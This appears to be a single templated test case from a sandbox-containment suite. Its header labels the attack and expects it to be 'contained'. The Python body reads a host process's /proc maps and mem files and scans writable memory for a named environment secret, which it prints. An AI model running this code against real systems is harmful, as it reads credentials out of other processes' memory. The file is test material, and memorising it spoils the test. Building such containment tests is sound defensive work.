# id: procfs-host-mem-scan
# category: procfs
# technique: /proc/<host pid>/maps then /proc/<host pid>/mem, searching the host's heap for the secret variable
# success: the host's environment secret is printed
# expected: contained
pid = {{HOST_PID}}
name = {{SECRET_ENV}}.encode()
with open(f"/proc/{pid}/maps") as f:
    regions = [line.split() for line in f]
with open(f"/proc/{pid}/mem", "rb") as mem:
    for fields in regions:
        if not fields[1].startswith("rw"):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            data = mem.read(min(end - start, 1 << 24))
        except OSError:
            continue
        i = data.find(name + b"=")
        if i >= 0:
            print(data[i : i + 100])
            break
